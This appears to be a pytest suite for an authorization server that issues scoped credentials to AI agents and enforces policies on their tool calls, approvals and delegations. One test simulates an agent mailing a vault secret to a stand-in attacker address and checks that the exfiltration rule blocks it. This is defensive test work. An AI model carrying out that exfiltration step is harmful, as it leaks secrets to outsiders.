"""`nhipl serve`'s task sessions: a task's life over HTTP (start, delegate, steps with
credentials, outputs feeding provenance, scoped approvals, end), RFC 7662 introspection, the
JWKS, bad bodies, auth, and a reload that revokes what the new policies no longer allow."""

from __future__ import annotations

import json
import os
import time

import pytest

from .test_serve_process import Server

pytest.importorskip("joserfc", reason="the `runtime` extra is not installed")

SUPPORT = "spiffe://acme.org/agents/support"
WRITER = "spiffe://acme.org/agents/writer"
STRANGER = "spiffe://acme.org/agents/stranger"
SECRET = "sk-vault-7f3a9c1e55d2"

POLICY = f"""
agent "{SUPPORT}" {{ groups: ["support"] }}
agent "{WRITER}" {{ groups: ["writers"] }}

@id("read-vault")
permit agent in "support" to call "vault.read" grant ttl 1m;

@id("read-tickets")
permit any agent to call "tickets.read" on "ticket:*" grant ttl 5m;

@id("send-mail")
permit any agent to call "mail.send" grant ttl 2m;

@id("hand-off")
permit agent in "support" to delegate "{WRITER}";

@id("no-exfiltration")
forbid any agent to call "mail.send"
    when provenance has body and provenance.body startswith "tool:"
    because "a tool's output may not be mailed out";

@id("refunds-need-a-human")
require approval for any agent to call "billing.refund" because "money leaves the company";

@id("refunds")
permit any agent to call "billing.refund";
"""


@pytest.fixture(scope="module")
def served(tmp_path_factory):
    folder = tmp_path_factory.mktemp("tasks")
    (folder / "policies.nhipl").write_text(POLICY)
    log = folder / "decisions.jsonl"
    with Server([folder / "policies.nhipl"], "--log", str(log), "--watch", "0") as server:
        yield server, log


def start(server, **body) -> str:
    status, headers, out = server.post("/v1/tasks", {"agent": SUPPORT, **body})
    assert status == 201, out
    assert headers["location"] == f"/v1/tasks/{out['task']}"
    return out["task"]


def step(server, task, tool, agent=SUPPORT, **body):
    status, _, out = server.post(f"/v1/tasks/{task}/steps", {"agent": agent, "tool": tool, **body})
    assert status == 200, out
    return out


def introspect(server, token, **extra):
    status, headers, out = server.post("/v1/credentials/introspect", {"token": token, **extra})
    assert status == 200, out
    assert headers["cache-control"] == "no-store"
    return out


def test_a_secret_read_from_the_vault_cannot_be_mailed_out_but_the_users_words_can(served):
    server, _ = served
    task = start(server, intent="answer-customer", prompt="Tell bob@acme.com that the printer is fixed")
    read = step(server, task, "vault.read", args={"name": "smtp"})
    assert read["effect"] == "allow" and read["credential"] is not None
    status, _, out = server.post(f"/v1/tasks/{task}/outputs", {"tool": "vault.read", "output": {"value": SECRET}})
    assert (status, out) == (200, {"recorded": True})

    leak = step(server, task, "mail.send", args={"to": "eve@evil.example", "body": SECRET})
    assert leak["effect"] == "deny" and leak["rules"] == ["no-exfiltration"]
    assert leak["credential"] is None
    fine = step(server, task, "mail.send", args={"to": "bob@acme.com", "body": "the printer is fixed"})
    assert fine["effect"] == "allow" and fine["rules"] == ["send-mail"]
    assert fine["credential"]["id"] and fine["credential"]["expires_at"] > time.time()


def test_a_credential_lives_until_its_task_ends(served):
    server, log = served
    task = start(server, intent="triage")
    first = step(server, task, "tickets.read", resource="ticket:42")
    again = step(server, task, "tickets.read", resource="ticket:42")
    assert first["credential"]["token"] == again["credential"]["token"], "a live credential is reused"
    token = first["credential"]["token"]
    claims = introspect(server, token)
    assert claims["active"] is True
    assert claims["sub"] == SUPPORT and claims["aud"] == "tickets.read" and claims["txn"] == task
    assert claims["jti"] == first["credential"]["id"] and claims["exp"] - claims["iat"] == 300
    assert introspect(server, token, tool="mail.send") == {"active": False}, "another audience is refused"

    status, _, out = server.request("DELETE", f"/v1/tasks/{task}")
    assert (status, out) == (200, {"ended": True, "task": task, "revoked": [first["credential"]["id"]]})
    assert introspect(server, token) == {"active": False}
    status, _, out = server.post(f"/v1/tasks/{task}/steps", {"agent": SUPPORT, "tool": "tickets.read"})
    assert status == 404 and out["field"] == "id"
    assert server.request("DELETE", f"/v1/tasks/{task}")[0] == 404
    text = log.read_text()
    assert first["credential"]["id"] in text and token not in text, "the log names the credential, never its token"


def test_introspection_takes_rfc_7662s_form_and_refuses_garbage(served):
    server, _ = served
    task = start(server)
    token = step(server, task, "vault.read")["credential"]["token"]
    status, _, out = server.post(
        "/v1/credentials/introspect", f"token={token}&token_type_hint=access_token".encode(),
        headers={"Content-Type": "application/x-www-form-urlencoded"},
    )
    assert status == 200 and out["active"] is True and out["aud"] == "vault.read"
    forged = token[:-4] + ("AAAA" if not token.endswith("AAAA") else "BBBB")
    for bad in (forged, "not-a-token", "a.b.c", token.split(".")[0] + ".e30.x"):
        assert introspect(server, bad) == {"active": False}, bad
    status, _, out = server.post("/v1/credentials/introspect", {"tokn": token})
    assert status == 400 and out["field"] == "tokn"


def test_the_jwks_verifies_the_credentials_independently(served):
    jwt = pytest.importorskip("jwt", reason="PyJWT is not installed")
    server, _ = served
    status, _, jwks = server.request("GET", "/v1/jwks")
    assert status == 200 and jwks["keys"] and all("d" not in key for key in jwks["keys"]), "public keys only"
    task = start(server)
    token = step(server, task, "vault.read")["credential"]["token"]
    key = jwt.PyJWKSet.from_dict(jwks).keys[0]
    claims = jwt.decode(token, key=key.key, algorithms=["EdDSA"], audience="vault.read")
    assert claims["sub"] == SUPPORT and claims["txn"] == task


def test_delegation_is_decided_and_carried_into_the_delegatees_steps(served):
    server, _ = served
    task = start(server, intent="answer-customer")
    status, _, out = server.post(f"/v1/tasks/{task}/delegations", {"agent": SUPPORT, "to": WRITER})
    assert status == 200 and out["delegated"] is True
    status, _, out = server.post(f"/v1/tasks/{task}/delegations", {"agent": WRITER, "to": STRANGER})
    assert status == 200 and out["delegated"] is False and out["effect"] == "deny"
    mail = step(server, task, "mail.send", agent=WRITER, args={"to": "bob@acme.com", "body": "hello"})
    assert mail["effect"] == "allow"
    claims = introspect(server, mail["credential"]["token"])
    assert claims["sub"] == WRITER and claims["act"]["sub"] == SUPPORT


def test_an_approval_covers_one_call_by_default(served):
    server, _ = served
    task = start(server)
    assert step(server, task, "billing.refund", args={"amount": 10})["effect"] == "approval_required"
    status, _, out = server.post(f"/v1/tasks/{task}/approvals", {"tool": "billing.refund", "by": "alice@acme.com"})
    assert status == 200 and out["approved"] is True
    assert step(server, task, "billing.refund", args={"amount": 10})["effect"] == "allow"
    assert step(server, task, "billing.refund", args={"amount": 10})["effect"] == "approval_required"
    status, _, _ = server.post(f"/v1/tasks/{task}/approvals", {"tool": "billing.refund", "by": "alice@acme.com", "uses": 2})
    assert status == 200
    assert [step(server, task, "billing.refund")["effect"] for _ in range(3)] == ["allow", "allow", "approval_required"]


@pytest.mark.parametrize(
    "path, body, field",
    [
        ("/v1/tasks", {}, "agent"),
        ("/v1/tasks", {"agent": 7}, "agent"),
        ("/v1/tasks", {"agent": ""}, "agent"),
        ("/v1/tasks", {"agent": SUPPORT, "intnet": "x"}, "intnet"),
        ("/v1/tasks", {"agent": SUPPORT, "task_id": "a b"}, "task_id"),
        ("/v1/tasks", [], ""),
        ("/v1/tasks", b"{", "body"),
        ("/v1/tasks/T/steps", {"agent": SUPPORT}, "tool"),
        ("/v1/tasks/T/steps", {"agent": SUPPORT, "tool": "x", "args": []}, "args"),
        ("/v1/tasks/T/steps", {"agent": SUPPORT, "tool": "x", "resource": 3}, "resource"),
        ("/v1/tasks/T/steps", {"agent": SUPPORT, "tool": "x", "context": "c"}, "context"),
        ("/v1/tasks/T/delegations", {"agent": SUPPORT}, "to"),
        ("/v1/tasks/T/outputs", {"tool": "x"}, "output"),
        ("/v1/tasks/T/approvals", {"tool": "x", "by": "a", "uses": 0}, "uses"),
        ("/v1/tasks/T/approvals", {"tool": "x", "by": "a", "uses": True}, "uses"),
        ("/v1/tasks/T/approvals", {"tool": "x", "by": "a", "ttl": -1}, "ttl"),
        ("/v1/credentials/introspect", {}, "token"),
    ],
)
def test_a_malformed_body_is_400_naming_the_field(served, path, body, field):
    server, _ = served
    if "/T/" in path:
        path = path.replace("/T/", f"/{start(server)}/")
    status, _, out = server.post(path, body)
    assert status == 400, out
    assert out["field"] == field and out["error"]


def test_unknown_tasks_and_methods(served):
    server, _ = served
    for path in ("/v1/tasks/nope/steps", "/v1/tasks/%20/steps", "/v1/tasks/" + "x" * 300 + "/steps"):
        status, _, out = server.post(path, {"agent": SUPPORT, "tool": "x"})
        assert status == 404 and out["field"] == "id", path
    assert server.post("/v1/tasks/x/nothing", {})[0] == 404
    assert server.request("GET", f"/v1/tasks/{start(server)}/steps")[0] == 405
    task = start(server, task_id="fixed-id")
    assert task == "fixed-id"
    status, _, out = server.post("/v1/tasks", {"agent": SUPPORT, "task_id": "fixed-id"})
    assert status == 409 and out["field"] == "task_id"


def test_the_token_guards_the_task_endpoints(tmp_path):
    (tmp_path / "p.nhipl").write_text(POLICY)
    (tmp_path / "token").write_text("s3cret\n")
    with Server([tmp_path / "p.nhipl"], "--token-file", str(tmp_path / "token")) as server:
        for method, path in [("POST", "/v1/tasks"), ("POST", "/v1/tasks/x/steps"), ("DELETE", "/v1/tasks/x"), ("POST", "/v1/credentials/introspect"), ("POST", "/v1/credentials/revoke"), ("GET", "/v1/jwks")]:
            assert server.request(method, path, {"agent": SUPPORT})[0] == 401, path
        server.token = "s3cret"
        assert server.request("GET", "/v1/jwks")[0] == 200


def test_a_reload_revokes_a_live_credential_whose_permit_is_gone(tmp_path):
    policy = tmp_path / "p.nhipl"
    policy.write_text(POLICY)
    log = tmp_path / "decisions.jsonl"
    with Server([policy], "--log", str(log), "--watch", "0") as server:
        task = start(server)
        vault = step(server, task, "vault.read")["credential"]
        ticket = step(server, task, "tickets.read", resource="ticket:1")["credential"]
        tmp = policy.with_suffix(".tmp")
        tmp.write_text(POLICY.replace('@id("read-vault")\npermit agent in "support" to call "vault.read" grant ttl 1m;', ""))
        os.replace(tmp, policy)
        status, headers, out = server.post("/v1/reload", None)
        assert status == 200 and out["reloaded"] is True
        assert introspect(server, vault["token"]) == {"active": False}
        assert introspect(server, ticket["token"])["active"] is True
        after = server.post(f"/v1/tasks/{task}/steps", {"agent": SUPPORT, "tool": "vault.read"})
        assert after[1]["x-nhipl-policy-version"] == out["version"] and after[2]["effect"] == "deny"
    revokes = [json.loads(line) for line in log.read_text().splitlines() if '"credential_revoke"' in line]
    assert [r["credential"] for r in revokes] == [vault["id"]], revokes


@pytest.mark.parametrize(
    "args, where",
    [
        (["--store", "memcached://x"], "--store:1:1: unknown store"),
        (["--key", "/nonexistent/key.pem"], "--key:1:1: "),
    ],
)
def test_a_bad_store_or_key_stops_the_start(tmp_path, args, where):
    from .test_serve_process import run_cli

    (tmp_path / "p.nhipl").write_text(POLICY)
    (tmp_path / "bad.pem").write_text("not a key")
    result = run_cli("serve", "-p", str(tmp_path / "p.nhipl"), "--port", "0", *args)
    assert result.returncode == 2 and result.stderr.startswith(where), result.stderr
    assert "Traceback" not in result.stderr
    bad_key = run_cli("serve", "-p", str(tmp_path / "p.nhipl"), "--port", "0", "--key", str(tmp_path / "bad.pem"))
    assert bad_key.returncode == 2 and bad_key.stderr.startswith("--key:1:1: ") and "Traceback" not in bad_key.stderr


def test_the_number_of_running_tasks_is_bounded(tmp_path, monkeypatch):
    import asyncio

    from nhipl.runtime.session import Runtime
    from nhipl.serve import tasks
    from nhipl.serve.app import App
    from nhipl.serve.policyset import PolicySet

    (tmp_path / "p.nhipl").write_text(POLICY)
    policyset = PolicySet([str(tmp_path / "p.nhipl")])
    app = App(policyset, watch=0, runtime=Runtime(policyset.current.policies))
    monkeypatch.setattr(tasks, "MAX_TASKS", 2)
    body = json.dumps({"agent": SUPPORT}).encode()
    statuses = [asyncio.run(app.start_task(body, {}))[0] for _ in range(3)]
    assert statuses == [201, 201, 503]
    first = next(iter(app.runtime._tasks))  # the oldest running task
    status, _, _ = asyncio.run(app.end_task(b"", {"nhipl.task_id": first}))
    assert status == 200 and asyncio.run(app.start_task(body, {}))[0] == 201


def test_an_unwritable_log_refuses_to_record_and_denies_every_step(tmp_path):
    import asyncio

    from nhipl.runtime import DecisionLog
    from nhipl.runtime.session import Runtime
    from nhipl.serve.app import App
    from nhipl.serve.policyset import PolicySet

    (tmp_path / "p.nhipl").write_text(POLICY)
    policyset = PolicySet([str(tmp_path / "p.nhipl")])
    log = DecisionLog(tmp_path / "log.jsonl")
    app = App(policyset, watch=0, runtime=Runtime(policyset.current.policies, log=log))
    status, out, _ = asyncio.run(app.start_task(json.dumps({"agent": SUPPORT}).encode(), {}))
    assert status == 201
    scope = {"nhipl.task_id": out["task"]}
    log.path = "/dev/full"  # from now on every write fails: no space left
    log.close()
    status, out, _ = asyncio.run(app.step(json.dumps({"agent": SUPPORT, "tool": "vault.read"}).encode(), scope))
    assert status == 200 and out["effect"] == "deny" and out["credential"] is None and "log" in out["reasons"][0]
    status, out, _ = asyncio.run(app.approval(json.dumps({"tool": "billing.refund", "by": "alice"}).encode(), scope))
    assert status == 503 and "nothing was recorded" in out["error"]
    status, _, _ = asyncio.run(app.start_task(json.dumps({"agent": SUPPORT}).encode(), {}))
    assert status == 503


def test_a_credential_revoked_by_hand_is_refused_and_its_task_goes_on(served):
    server, log = served
    task = start(server)
    first = step(server, task, "vault.read")["credential"]
    status, headers, out = server.post("/v1/credentials/revoke", {"token": first["token"], "reason": "laptop stolen"})
    assert (status, out) == (200, {"revoked": True, "jti": first["id"]}) and headers["cache-control"] == "no-store"
    assert introspect(server, first["token"]) == {"active": False}
    assert server.post("/v1/credentials/revoke", {"token": first["token"]})[2] == {"revoked": False}, "once"
    assert server.post("/v1/credentials/revoke", {"token": "a.b.c"})[2] == {"revoked": False}
    again = step(server, task, "vault.read")["credential"]
    assert again["id"] != first["id"] and introspect(server, again["token"])["active"] is True, "a fresh one is minted"
    revokes = [json.loads(line) for line in log.read_text().splitlines() if first["id"] in line and '"credential_revoke"' in line]
    assert len(revokes) == 1 and "laptop stolen" in revokes[0]["reason"]
    assert server.post("/v1/credentials/revoke", {"jti": first["id"]})[2]["field"] == "jti"
